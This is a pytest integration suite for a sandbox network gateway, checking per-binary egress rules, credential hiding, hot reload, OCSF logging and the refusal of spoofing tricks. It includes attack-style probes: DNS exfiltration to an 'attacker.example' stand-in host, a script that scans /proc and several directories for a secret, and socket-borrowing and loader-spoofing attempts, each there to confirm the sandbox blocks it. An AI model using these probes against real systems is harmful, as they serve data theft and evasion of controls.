"""Real clients INSIDE a real sandbox (Launcher: namespaces, Landlock, seccomp) through the gateway, against
real servers on 127.0.0.1 in the host namespace. Root only (CI runs as root, so nothing skips there).

Origins are reached by name (origin.test, git.test, pypi.test, plain.test): the gateway config maps them to
127.0.0.1 with ``static_hosts`` (the operator's grant for host-local services; the policy schema does not yet
accept loopback in ``allowed_ips``, see docs/gateway.md)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from policy_daemon import SANDBOX_USER

from .support import SECRET_VALUE, GitHandler, Origin, StaticHandler, make_ca_and_leaf, make_wheel

NAMES = ("origin.test", "git.test", "pypi.test", "plain.test", "pass.test")

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="sandbox integration tests need root; CI runs as root")


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    d = tmp_path_factory.mktemp("world")
    ca, cert, key = make_ca_and_leaf(d, NAMES)
    echo = Origin(cert, key)
    plain = Origin()
    git_root = d / "git"
    git_root.mkdir()
    src = d / "src"
    subprocess.run(["git", "init", "-q", "-b", "main", str(src)], check=True)
    (src / "README").write_text("hello from the test repo\n")
    subprocess.run(["git", "-C", str(src), "-c", "user.name=t", "-c", "user.email=t@t", "add", "README"], check=True)
    subprocess.run(["git", "-C", str(src), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "init"],
                   check=True)  # fmt: skip
    subprocess.run(["git", "clone", "-q", "--bare", str(src), str(git_root / "repo.git")], check=True)
    git = Origin(cert, key, GitHandler)
    git.httpd.git_root = git_root  # type: ignore[attr-defined]
    pypi = Origin(cert, key, StaticHandler)
    wheel_name, wheel = make_wheel()
    pypi.httpd.files = {  # type: ignore[attr-defined]
        "/simple/": ("text/html", b'<html><body><a href="/simple/demo-pkg/">demo-pkg</a></body></html>'),
        "/simple/demo-pkg/": ("text/html", f'<html><body><a href="/files/{wheel_name}">x</a></body></html>'.encode()),
        f"/files/{wheel_name}": ("application/octet-stream", wheel),
    }
    yield {"dir": d, "ca": ca, "echo": echo, "plain": plain, "git": git, "pypi": pypi}
    for o in (echo, plain, git, pypi):
        o.close()


class Box:
    def __init__(self, tmp: Path, world: dict, user) -> None:
        self.tmp, self.world = tmp, world
        tmp.chmod(0o755)
        self.work = tmp / "work"
        self.work.mkdir()
        os.chown(self.work, user.pw_uid, user.pw_gid)
        self.policy = tmp / "policy.yaml"
        self.log = tmp / "decisions.jsonl"
        self.secret_file = tmp / "secret"
        self.secret_file.write_text(SECRET_VALUE + "\n")
        self.secret_file.chmod(0o600)
        self.gwconf = tmp / "gateway.yaml"
        self.gwconf.write_text(json.dumps({
            "extra_ca_file": str(world["ca"]),
            "static_hosts": {n: "127.0.0.1" for n in NAMES},
            "secrets": {"GITHUB_TOKEN": {"file": str(self.secret_file), "hosts": ["origin.test"]}},
        }))  # fmt: skip

    def write_policy(self, network: str) -> None:
        head = textwrap.dedent(
            f"""\
            version: 1
            filesystem_policy:
              include_workdir: true
              read_only: [/usr, /lib, /lib64, /bin, /etc, /proc, /dev/urandom]
              read_write: [/sandbox, /tmp, /dev/null]
            process:
              run_as_user: {SANDBOX_USER}
            network_policies:
            """
        )
        self.policy.write_text(head + textwrap.indent(textwrap.dedent(network), "  "))

    def run(self, argv, extra=(), timeout=120, **kw) -> subprocess.CompletedProcess:
        cmd = [sys.executable, "-m", "clawfleet.cli", "gateway", "run", "--policy", str(self.policy),
               "--gateway-config", str(self.gwconf), "--gateway-log", str(self.log), "--workdir", str(self.work),
               *extra, "--", *argv]  # fmt: skip
        return subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, **kw)

    def sh(self, script: str, **kw) -> subprocess.CompletedProcess:
        return self.run(["/bin/sh", "-c", textwrap.dedent(script)], **kw)

    def records(self) -> list[dict]:
        return [json.loads(x) for x in self.log.read_text().splitlines() if x.strip()]


@pytest.fixture
def box(tmp_path, world, user) -> Box:
    return Box(tmp_path, world, user)


def std_policy(world) -> str:
    e, p, g, y = world["echo"].port, world["plain"].port, world["git"].port, world["pypi"].port
    return f"""\
    curl_rules:
      name: curl
      endpoints:
        - host: origin.test
          port: {e}
          allowed_ips: [127.0.0.1/32]
          protocol: rest
          rules:
            - allow: {{method: GET, path: "/ok/**"}}
            - allow: {{method: POST, path: "/api/*"}}
        - host: plain.test
          port: {p}
          allowed_ips: [127.0.0.1/32]
          protocol: rest
          access: read-only
      binaries: [{{path: /usr/bin/curl}}]
    python:
      name: python
      endpoints:
        - host: origin.test
          port: {e}
          allowed_ips: [127.0.0.1/32]
          protocol: rest
          rules:
            - allow: {{method: GET, path: "/py/**"}}
        - host: pypi.test
          port: {y}
          allowed_ips: [127.0.0.1/32]
          protocol: rest
          access: read-only
      binaries: [{{path: "/usr/bin/python3*"}}]
    git:
      name: git
      endpoints:
        - host: git.test
          port: {g}
          allowed_ips: [127.0.0.1/32]
          protocol: rest
          rules:
            - allow: {{method: GET, path: "/repo.git/info/refs"}}
            - allow: {{method: POST, path: "/repo.git/git-upload-pack"}}
      binaries: [{{path: /usr/bin/git}}]
    node:
      name: node
      endpoints:
        - host: origin.test
          port: {e}
          allowed_ips: [127.0.0.1/32]
          protocol: rest
          rules:
            - allow: {{method: GET, path: "/node/**"}}
      binaries: [{{path: "/usr/bin/node*"}}]
    """


def test_curl_allowed_and_each_other_combination_denied(box, world):
    box.write_policy(std_policy(world))
    e, p = world["echo"].port, world["plain"].port
    proc = box.sh(f"""
        c() {{ curl -s -o /dev/null -w '%{{http_code}}' "$@"; echo " $?"; }}
        c https://origin.test:{e}/ok/a
        c -X POST -d hi https://origin.test:{e}/api/x
        c -X DELETE https://origin.test:{e}/ok/a
        c https://origin.test:{e}/other
        c https://origin.test:{e}/api/x
        c http://plain.test:{p}/r
        c -X POST -d x http://plain.test:{p}/r
        c https://unlisted.example:443/
        c https://origin.test:1/
    """)
    lines = proc.stdout.split("\n")
    assert lines[:9] == ["200 0", "200 0", "403 0", "403 0", "403 0", "200 0", "403 0", "000 56", "000 56"], proc
    recs = [r for r in box.records() if "decision" in r]
    denied = [r for r in recs if r["action"] == "deny"]
    reasons = [r["reason"] for r in denied]
    assert any("no rule" in x and "DELETE" in x for x in reasons)
    assert any("no matching policy for unlisted.example:443" in x for x in reasons)
    assert all(r["binary"] == "/usr/bin/curl" and r["pid"] for r in recs)


def test_python_urllib_and_requests(box, world):
    box.write_policy(std_policy(world))
    e, p = world["echo"].port, world["plain"].port
    code = f"""
import json, urllib.request, urllib.error
from pip._vendor import requests
out = {{}}
out["urllib"] = urllib.request.urlopen("https://origin.test:{e}/py/u").status
out["requests"] = requests.get("https://origin.test:{e}/py/r").status_code
try:
    urllib.request.urlopen("https://origin.test:{e}/ok/curl-only")
except urllib.error.HTTPError as exc:
    out["other_path"] = exc.code
    out["body"] = json.loads(exc.read())
try:
    urllib.request.urlopen("http://plain.test:{p}/r")
except urllib.error.HTTPError as exc:
    out["other_binary"] = exc.code
print(json.dumps(out))
"""
    proc = box.run(["/usr/bin/python3", "-c", code])
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    assert out["urllib"] == 200 and out["requests"] == 200
    assert out["other_path"] == 403 and out["body"]["rule"] == "python" and out["body"]["error"] == "policy_denied"
    assert out["other_binary"] == 403
    binaries = {r["binary"] for r in box.records() if "decision" in r}
    assert binaries == {os.path.realpath("/usr/bin/python3")}


def test_no_network_without_the_proxy_and_no_dns(box, world):
    box.write_policy(std_policy(world))
    e = world["echo"].port
    code = f"""
import errno, json, socket
def tr(fn):
    try:
        fn()
        return "ok"
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno)) if exc.errno else type(exc).__name__
def tcp(addr):
    s = socket.socket(socket.AF_INET6 if ":" in addr[0] else socket.AF_INET)
    s.settimeout(3)
    s.connect(addr)
out = {{
  "host_origin_port": tr(lambda: tcp(("127.0.0.1", {e}))),
  "public_ip": tr(lambda: tcp(("1.1.1.1", 443))),
  "public_v6": tr(lambda: tcp(("2606:4700:4700::1111", 443))),
  "udp_dns": tr(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x" * 12, ("8.8.8.8", 53))),
  "resolve": tr(lambda: socket.getaddrinfo("exfil-c2VjcmV0.attacker.example", 443)),
  "resolve_allowed_name": tr(lambda: socket.getaddrinfo("origin.test", 443)),
}}
print(json.dumps(out))
"""
    proc = box.run(["/usr/bin/python3", "-c", code], extra=("--env", "HTTPS_PROXY=", "--env", "HTTP_PROXY="))
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    assert out["host_origin_port"] == "ECONNREFUSED"  # the sandbox's lo is not the host's
    assert out["public_ip"] == "ENETUNREACH" and out["public_v6"] in ("ENETUNREACH", "EADDRNOTAVAIL")
    assert out["udp_dns"] == "ENETUNREACH"
    assert out["resolve"] != "ok" and out["resolve_allowed_name"] != "ok"
    # curl told to bypass the proxy has no way out either
    proc = box.sh(f"curl -s --noproxy '*' -o /dev/null https://origin.test:{e}/ok/a; echo $?")
    assert proc.stdout.strip() != "0"
    # DNS exfiltration through the proxy: refused before any lookup, logged as no matching policy
    proc = box.sh("curl -s -o /dev/null -w '%{http_connect}' https://c2VjcmV0.attacker.example/")
    assert proc.stdout.strip() == "403"


@pytest.mark.skipif(not os.path.exists("/usr/lib/git-core/git-http-backend"), reason="git is not installed")
def test_git_clone_over_https(box, world):
    box.write_policy(std_policy(world))
    g = world["git"].port
    proc = box.sh(f"cd /tmp && HOME=/tmp git clone -q https://git.test:{g}/repo.git r && cat r/README")
    assert proc.returncode == 0, proc.stderr
    assert "hello from the test repo" in proc.stdout
    recs = [r for r in box.records() if r.get("kind") == "tls_request"]
    assert recs and all(r["action"] == "allow" for r in recs)
    assert {r["binary"] for r in recs} == {"/usr/lib/git-core/git-remote-http"}
    assert all("/usr/bin/git" in r["ancestors"] for r in recs)
    # a push (git-receive-pack) is not in the rules
    proc = box.sh(f"cd /tmp && HOME=/tmp git ls-remote https://git.test:{g}/other.git 2>&1; echo rc=$?")
    assert "rc=0" not in proc.stdout


@pytest.mark.skipif(
    subprocess.run(["/usr/bin/python3", "-m", "pip", "--version"], capture_output=True).returncode != 0,
    reason="the system python has no pip",
)
def test_pip_download_from_local_index(box, world):
    box.write_policy(std_policy(world))
    y = world["pypi"].port
    argv = ["/usr/bin/python3", "-m", "pip", "download", "--no-deps", "--no-cache-dir", "--disable-pip-version-check",
            "-q", "--index-url", f"https://pypi.test:{y}/simple/", "-d", "/sandbox/dl", "demo-pkg"]  # fmt: skip
    proc = box.run(argv, extra=("--env", "HOME=/tmp"))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert (box.work / "dl" / "demo_pkg-1.0-py3-none-any.whl").exists()


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_node_through_connect(box, world):
    box.write_policy(std_policy(world))
    e = world["echo"].port
    script = f"""
const http = require('http'), tls = require('tls');
const proxy = new URL(process.env.HTTPS_PROXY);
function get(path) {{ return new Promise((resolve, reject) => {{
  const req = http.request({{host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: 'origin.test:{e}'}});
  req.on('connect', (res, socket) => {{
    if (res.statusCode !== 200) return resolve(res.statusCode);
    const s = tls.connect({{socket, servername: 'origin.test'}}, () => {{
      s.write(`GET ${{path}} HTTP/1.1\\r\\nHost: origin.test:{e}\\r\\nConnection: close\\r\\n\\r\\n`); }});
    let data = ''; s.on('data', d => data += d); s.on('end', () => resolve(Number(data.split(' ')[1])));
    s.on('error', reject); }});
  req.on('error', reject); req.end(); }}); }}
(async () => {{ console.log(JSON.stringify([await get('/node/x'), await get('/ok/x')])); }})();
"""
    proc = box.run(["/usr/bin/node", "-e", script])
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout.strip().splitlines()[-1]) == [200, 403]


def test_credential_placeholder_never_visible_inside(box, world):
    box.write_policy(std_policy(world))
    e = world["echo"].port
    scan = """
import json, os
secret = os.environ["WANTED"].encode()
hits = []
for k, v in os.environ.items():
    if secret in v.encode():
        hits.append("env:" + k)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for f in ("cmdline", "environ"):
            try:
                if secret in open(f"/proc/{pid}/{f}", "rb").read():
                    hits.append(f"/proc/{pid}/{f}")
            except OSError:
                pass
for root in ("/sandbox", "/tmp", "/run", "/etc", "/dev"):
    for d, _, files in os.walk(root):
        for name in files:
            try:
                with open(os.path.join(d, name), "rb") as fh:
                    if secret in fh.read(1 << 20):
                        hits.append(os.path.join(d, name))
            except OSError:
                pass
print(json.dumps({"hits": hits, "token": os.environ.get("GITHUB_TOKEN")}))
"""
    (box.work / "scan.py").write_text(scan)
    # WANTED is the real value's sha-free stand-in: the scan looks for the value itself, passed in hex-split
    # form so that the command line does not contain it either
    half = len(SECRET_VALUE) // 2
    proc = box.sh(f"""
        curl -s -o /dev/null -H "Authorization: Bearer $GITHUB_TOKEN" https://origin.test:{e}/ok/cred
        WANTED="$P1$P2" python3 /sandbox/scan.py
    """, extra=("--credential", "GITHUB_TOKEN", "--env", f"P1={SECRET_VALUE[:half]}",
                "--env", f"P2={SECRET_VALUE[half:]}"))  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    assert out["token"] == "openshell:resolve:env:GITHUB_TOKEN"
    # the only hit allowed is the scanner's own WANTED variable (how the test tells it what to look for)
    assert [h for h in out["hits"] if h not in ("env:WANTED",) and not h.endswith("/environ")] == []
    seen = {k.lower(): v for k, v in world["echo"].seen[-1]["headers"].items()}
    assert seen["authorization"] == f"Bearer {SECRET_VALUE}"  # the real value went out on the wire
    assert SECRET_VALUE not in box.log.read_text()


def test_hot_reload_while_sandbox_runs(box, world):
    box.write_policy(std_policy(world))
    e = world["echo"].port
    script = f"""
        first=$(curl -s -o /dev/null -w '%{{http_code}}' https://origin.test:{e}/late/x)
        echo "$first" > /sandbox/first
        i=0
        while [ $i -lt 100 ]; do
          code=$(curl -s -o /dev/null -w '%{{http_code}}' https://origin.test:{e}/late/x)
          [ "$code" = 200 ] && echo "first=$first then=200" && exit 0
          sleep 0.1; i=$((i+1))
        done
        exit 1
    """
    proc = subprocess.Popen(
        [sys.executable, "-m", "clawfleet.cli", "gateway", "run", "--policy", str(box.policy), "--gateway-config",
         str(box.gwconf), "--gateway-log", str(box.log), "--workdir", str(box.work), "--", "/bin/sh", "-c",
         textwrap.dedent(script)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)  # fmt: skip
    try:
        for _ in range(300):
            if (box.work / "first").exists():
                break
            time.sleep(0.05)
        new = box.policy.read_text().replace('path: "/ok/**"', 'path: "/late/**"')
        tmp = box.policy.with_suffix(".new")
        tmp.write_text(new)
        tmp.rename(box.policy)  # atomic replace, as editors and `policy approve` do
        out, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == 0, err
    assert "first=403 then=200" in out
    assert any(r.get("event") == "reload" and r["ok"] for r in box.records())


def test_monitor_mode_in_sandbox(box, world):
    box.write_policy(std_policy(world))
    e = world["echo"].port
    proc = box.sh(f"curl -s -o /dev/null -w '%{{http_code}}' -X DELETE https://origin.test:{e}/nope",
                  extra=("--mode", "monitor"))  # fmt: skip
    assert proc.stdout.strip() == "200"
    rec = [r for r in box.records() if r.get("kind") == "tls_request"][-1]
    assert (rec["decision"], rec["action"], rec["mode"]) == ("deny", "allow", "monitor")


def test_daemon_and_control_socket(tmp_path, world, user):
    tmp_path.chmod(0o755)
    work = tmp_path / "work"
    work.mkdir()
    os.chown(work, user.pw_uid, user.pw_gid)
    box = Box.__new__(Box)
    box.policy = tmp_path / "policy.yaml"
    Box.write_policy(box, std_policy(world))
    (tmp_path / "agent.yaml").write_text(json.dumps({
        "name": "agent", "command": ["/bin/sh", "-c", "echo agent-started; sleep 60"], "policy": "policy.yaml",
        "workdir": "work", "limits": {"pids_max": 64}, "gateway": {"extra_ca_file": str(world["ca"])},
    }))  # fmt: skip
    sock = tmp_path / "control.sock"
    (tmp_path / "daemon.yaml").write_text(json.dumps({"state_dir": "state", "control_socket": str(sock),
                                                      "sandboxes": ["agent.yaml"]}))  # fmt: skip
    argv = [sys.executable, "-m", "clawfleet.cli", "gateway", "serve", "--config", str(tmp_path / "daemon.yaml")]
    daemon = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    def cli(*args) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-c", "import sys, argparse\n"
                               "from clawfleet.supervisor.control_client import register_control_subcommands\n"
                               "p = argparse.ArgumentParser(); register_control_subcommands(p.add_subparsers("
                               "dest='sandbox_command'))\na = p.parse_args(sys.argv[1:]); sys.exit(a.func(a))",
                               *args], capture_output=True, text=True, timeout=30)  # fmt: skip

    try:
        for _ in range(400):
            logs = cli("logs", "agent", "--socket", str(sock))
            if "agent-started" in logs.stdout:
                break
            time.sleep(0.05)
        assert "agent-started" in logs.stdout, logs.stderr
        listing = cli("list", "--socket", str(sock))
        assert "agent" in listing.stdout and "running" in listing.stdout
        status = json.loads(cli("status", "agent", "--socket", str(sock)).stdout)
        assert status["state"] == "running" and status["pid"]
        stopped = json.loads(cli("stop", "agent", "--socket", str(sock)).stdout)
        assert stopped["state"] == "exited"
        assert cli("status", "nosuch", "--socket", str(sock)).returncode == 1
    finally:
        daemon.terminate()
        daemon.wait(20)


def test_binary_identity_spoofing_denied(box, world):
    """Identity is /proc/PID/exe: running curl through the dynamic loader, or a copy of curl, is not curl."""
    box.write_policy(std_policy(world))
    e = world["echo"].port
    proc = box.sh(f"""
        c() {{ "$@" -s -o /dev/null -w '%{{http_code}}' https://origin.test:{e}/ok/a; echo " $?"; }}
        c /usr/bin/curl
        for ld in /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1; do [ -e $ld ] && c $ld /usr/bin/curl; done
        cp /usr/bin/curl /tmp/curl 2>/dev/null && c /tmp/curl
        cp /usr/bin/curl /sandbox/curl && c /sandbox/curl
        true
    """)
    lines = [x for x in proc.stdout.splitlines() if x.strip()]
    assert lines[0] == "200 0", proc
    assert all(not x.startswith("200") for x in lines[1:]), proc
    spoofed = {r["binary"] for r in box.records() if r.get("action") == "deny"}
    assert "/usr/bin/curl" not in spoofed and spoofed


def test_learn_mode_round_trip(box, world):
    """monitor mode with an empty policy -> suggest -> the suggested policy allows exactly that, enforced."""
    box.write_policy("{}\n")
    e, p = world["echo"].port, world["plain"].port
    script = f"curl -s -o /dev/null -w '%{{http_code}}' https://origin.test:{e}/ok/a; echo"
    proc = box.sh(script, extra=("--mode", "monitor"))
    assert proc.stdout.strip() == "200", proc
    from clawfleet.policy import approvals

    suggested = approvals.suggest(approvals.read_log(str(box.log)), base=str(box.policy))
    box.policy.write_text(suggested)
    box.log.unlink()
    proc = box.sh(f"""
        {script}
        curl -s -o /dev/null -w '%{{http_code}}' http://plain.test:{p}/x; echo
        python3 -c 'import urllib.request; urllib.request.urlopen("https://origin.test:{e}/ok/a")' 2>/dev/null; echo $?
    """)
    assert proc.stdout.split() == ["200", "403", "1"], proc


BORROW = Path(__file__).with_name("borrow_socket.py")


def test_socket_borrowed_through_a_private_fd_table_is_refused(box, world):
    """python3 (not allowed plain.test) lets curl inherit its proxy socket and hides its own copy in a
    thread's private fd table (unshare(CLONE_FILES)): before every task's table was read it passed as curl
    (CONNECT 200). Refused now, as is a socket both hold openly; a fork of the same binary still works."""
    box.write_policy(std_policy(world))
    p, y = world["plain"].port, world["pypi"].port
    shutil.copy(BORROW, box.work / "borrow_socket.py")
    proc = box.sh(f"""
        port=${{HTTP_PROXY##*:}}
        curl -s -o /dev/null -w '%{{http_code}}\\n' http://plain.test:{p}/r
        python3 /sandbox/borrow_socket.py hide "$port" plain.test:{p}
        python3 /sandbox/borrow_socket.py share "$port" plain.test:{p}
        python3 /sandbox/borrow_socket.py fork "$port" pypi.test:{y}
    """)
    lines = proc.stdout.strip().splitlines()
    assert lines[0] == "200", proc
    hide, share, fork = (json.loads(x) for x in lines[1:4])
    assert hide["unshare"] is None and hide["status"].startswith("HTTP/1.1 403"), proc
    assert share["status"].startswith("HTTP/1.1 403") and fork["status"].startswith("HTTP/1.1 200"), proc
    refused = [r for r in box.records() if r.get("kind") == "connect" and r["action"] == "deny"]
    assert len(refused) == 2 and all("held by different executables" in r["reason"] for r in refused)
    assert all(r["binary"] is None for r in refused)
    allowed = [r for r in box.records() if r.get("kind") == "connect" and r["action"] == "allow"]
    assert {r["binary"] for r in allowed if r["host"] == "plain.test"} <= {"/usr/bin/curl"}
    assert {r["binary"] for r in allowed if r["host"] == "pypi.test"} == {os.path.realpath("/usr/bin/python3")}


def test_loopback_granted_to_curl_not_lent_to_python(box, world):
    """allowed_ips of curl's rule for localhost:PORT must not open the host's loopback to python3, which
    another rule allows the same host:port without allowed_ips (CONNECT was 200 before)."""
    p = world["plain"].port
    box.write_policy(f"""\
    curl_local:
      name: curl_local
      endpoints:
        - host: localhost
          port: {p}
          allowed_ips: [127.0.0.1/32]
      binaries: [{{path: /usr/bin/curl}}]
    python_local:
      name: python_local
      endpoints: [{{host: localhost, port: {p}}}]
      binaries: [{{path: "/usr/bin/python3*"}}]
    """)
    code = f"""
import json, os, socket
port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
def ask(text):
    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
        s.sendall(text.encode())
        return s.recv(200).split(b" ")[1].decode()
print(json.dumps([ask("CONNECT localhost:{p} HTTP/1.1\\r\\nHost: localhost:{p}\\r\\n\\r\\n"),
                  ask("GET http://localhost:{p}/py HTTP/1.1\\r\\nHost: localhost:{p}\\r\\n\\r\\n")]))
"""
    (box.work / "ask.py").write_text(code)
    proc = box.sh(f"""
        curl -s -o /dev/null -w '%{{http_code}}\\n' --noproxy '' -x "$HTTP_PROXY" http://localhost:{p}/curl
        curl -s -o /dev/null -w '%{{http_code}}\\n' --noproxy '' -p -x "$HTTP_PROXY" http://localhost:{p}/curl-tunnel
        python3 /sandbox/ask.py
    """)
    lines = proc.stdout.strip().splitlines()
    assert lines[:2] == ["200", "200"], proc
    assert json.loads(lines[2]) == ["403", "403"], proc
    paths = [s["path"] for s in world["plain"].seen]
    assert "/curl" in paths and "/curl-tunnel" in paths and "/py" not in paths
    refused = [r for r in box.records() if r.get("event") == "address_refused"]
    assert len(refused) == 2 and all("is not granted (allowed_ips)" in r["reason"] for r in refused)
    assert all("127.0.0.1" in r["addresses"] for r in refused)
    assert {r["binary"] for r in refused} == {os.path.realpath("/usr/bin/python3")}


def test_ocsf_log_of_sandbox_run_has_the_command_and_its_exit_code(box, world):
    """``ocsf_log`` in the gateway config of ``gateway run``: the command's launch and exit (with its exit code,
    which the embedded supervisor knows), the policy load and curl's decisions, all valid OCSF 1.8.0."""
    from .ocsf_schema import problems

    box.write_policy(std_policy(world))
    ocsf = box.tmp / "ocsf.jsonl"
    box.gwconf.write_text(json.dumps({**json.loads(box.gwconf.read_text()), "ocsf_log": str(ocsf)}))
    e = world["echo"].port
    proc = box.sh(f"""
        curl -s -o /dev/null -w '%{{http_code}}\\n' https://origin.test:{e}/ok/a
        curl -s -o /dev/null -w '%{{http_code}}\\n' -X DELETE https://origin.test:{e}/ok/a
        exit 5
    """)
    assert proc.returncode == 5, proc.stderr
    assert proc.stdout.split() == ["200", "403"], proc.stdout
    events = [json.loads(x) for x in ocsf.read_text().splitlines()]
    bad = [(ev, p) for ev in events if (p := problems(ev))]
    assert not bad, bad[:3]
    launch = [ev for ev in events if ev["class_uid"] == 1007 and ev["activity_id"] == 1]
    exits = [ev for ev in events if ev["class_uid"] == 1007 and ev["activity_id"] == 2]
    assert len(launch) == 1 and len(exits) == 1
    assert launch[0]["process"]["cmd_line"].startswith("/bin/sh -c")
    assert launch[0]["actor"]["process"]["pid"] > 0  # the supervisor that launched it
    assert exits[0]["exit_code"] == 5 and exits[0]["status"] == "Failure"
    assert exits[0]["process"]["pid"] == launch[0]["process"]["pid"]
    http = {(ev["activity_name"], ev["action"]) for ev in events if ev["class_uid"] == 4002}
    assert http == {("Get", "Allowed"), ("Delete", "Denied")}
    assert events[0]["class_uid"] == 5019 and events[0]["message"].startswith("Policy loaded")
    assert events.index(launch[0]) < events.index(exits[0])
